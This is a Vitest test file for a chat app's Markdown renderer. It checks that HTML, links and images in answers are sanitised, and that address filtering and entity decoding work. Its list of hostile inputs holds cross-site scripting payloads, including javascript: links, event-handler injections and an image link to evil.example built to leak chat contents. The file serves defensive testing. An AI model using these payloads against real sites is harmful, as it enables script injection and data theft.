// @vitest-environment node
import render from "preact-render-to-string";
import { describe, expect, test } from "vitest";
import { AnswerText } from "../../src/chat/markdown/answer_text.js";
import { decoded } from "../../src/chat/markdown/entities.js";
import { safeAddress } from "../../src/chat/markdown/links.js";

const drawn = (text: string): string => render(<AnswerText text={text} isWhole />);

/** The elements of a drawing, with their attributes: what a browser would make of it. */
function elements(html: string): string[] {
  return html.match(/<[a-z][^>]*>/g) ?? [];
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<a href='javascript:alert(1)'>x</a>",
  "<iframe src='https://evil.example'></iframe>",
  "<style>*{display:none}</style>",
  "<form action='https://evil.example'><input></form>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://a.example/1)",
  "[x](//evil.example/path)",
  "[x](/api/sessions)",
  "[x](https://good.example@evil.example/)",
  "![x](https://evil.example/leak.png?chat=secret)",
  "![x](javascript:alert(1))",
  '![x"onerror=alert(1)](https://evil.example/a.png)',
  '[x](https://a.example "t" onmouseover="alert(1)")',
  '<https://a.example/?"onmouseover=alert(1)>',
  "<javascript:alert(1)>",
  "```<img src=x onerror=alert(1)>\ncode\n```",
  '```js"><script>alert(1)</script>\ncode\n```',
  "| <script>alert(1)</script> |\n|---|\n| <img src=x> |",
  "# <img src=x onerror=alert(1)>",
  "- <b onclick=alert(1)>x</b>",
  "> <object data=x></object>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "**<img src=x onerror=alert(1)>**은",
  "[![x](https://evil.example/i.png)](javascript:alert(1))",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "\u0000<script\u0000>alert(1)</script>",
];

describe("whatever an answer says", () => {
  const ALLOWED =
    /^<(div|p|strong|em|del|code|pre|br|a|h[3-6]|hr|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|span|button|svg|path)\b/;
  const LINK =
    /^<a (class="image-link" )?href="(https?:|mailto:)[^"]*" target="_blank" rel="noopener noreferrer"( title="[^"]*")?>$/;

  test.each(HOSTILE)("%s", (text) => {
    for (const element of elements(drawn(text))) {
      expect(element).toMatch(ALLOWED);
      expect(element).not.toMatch(/\son\w+=/i);
      expect(element).not.toMatch(/\s(style|srcdoc|srcset|formaction)=/i);
      if (element.startsWith("<a ")) expect(element).toMatch(LINK);
      if (!element.startsWith("<path") && !element.startsWith("<svg")) expect(element).not.toMatch(/\ssrc=/);
    }
  });

  test("HTML is shown as it is written", () => {
    expect(drawn("a <b>c</b>")).toContain("a &lt;b>c&lt;/b>");
    expect(drawn("<div>\nx\n</div>")).toContain("&lt;div>");
  });

  test("an image is a link that says where it leads, and nothing is fetched", () => {
    const html = drawn("![그림](https://pictures.example/a.png)");
    expect(html).not.toContain("<img");
    expect(html).toContain('href="https://pictures.example/a.png"');
    expect(html).toContain("pictures.example");
    expect(html).toContain("그림");
  });

  test("a dollar is a dollar", () => {
    expect(drawn("It is $4, or $5 for two. $$x$$")).toContain("It is $4, or $5 for two. $$x$$");
  });
});

describe("what is drawn", () => {
  test("Markdown of every kind", () => {
    const html = drawn(
      "# a\n\n**b** *c* ~~d~~ `e`\\*\n\n1. f\n2. g\n\n- [x] h\n- [ ] i\n\n> j\n\n---\n\n| k | l |\n|--|-:|\n| m | n |\n",
    );
    for (const part of [
      "<h3>a</h3>",
      "<strong>b</strong>",
      "<em>c</em>",
      "<del>d</del>",
      "<code>e</code>*",
      "<ol",
      "<li>f",
      "☑",
      "☐",
      "<blockquote>",
      "<hr",
      "<th",
      "align-right",
    ]) {
      expect(html).toContain(part);
    }
  });

  test("Korean text says that it is Korean", () => {
    expect(drawn("안녕하세요")).toContain('lang="ko"');
    expect(drawn("hello")).toMatch(/ lang(=""|>)/);
  });

  test("what is wide can be reached with the keyboard", () => {
    expect(drawn("| a |\n|---|\n| b |")).toMatch(/class="table-scroll" tabindex="0" role="region"/i);
    expect(drawn("```\nx\n```")).toMatch(/<pre tabindex="0"/i);
  });
});

test.each([
  ["https://a.example/x", "https://a.example/x"],
  ["mailto:a@b.example", "mailto:a@b.example"],
  ["HTTPS://A.EXAMPLE", "https://a.example/"],
  ["javascript:alert(1)", null],
  ["java\tscript:alert(1)", null],
  ["/relative", null],
  ["//host/path", null],
  ["#follow=st_1", null],
  ["https://user:pass@a.example/", null],
  ["tel:123", null],
  ["", null],
])("the address %s", (address, expected) => {
  expect(safeAddress(address)).toBe(expected);
});

test.each([
  ["a &amp; b", "a & b"],
  ["&#44032;&#xAC00;", "가가"],
  ["&#0;&#xD800;&#x110000;", "\ufffd\ufffd\ufffd"],
  ["&unknown; &toString; &amp", "&unknown; &toString; &amp"],
  ["&amp;lt;", "&lt;"],
])("the references of %s", (text, expected) => {
  expect(decoded(text)).toBe(expected);
});
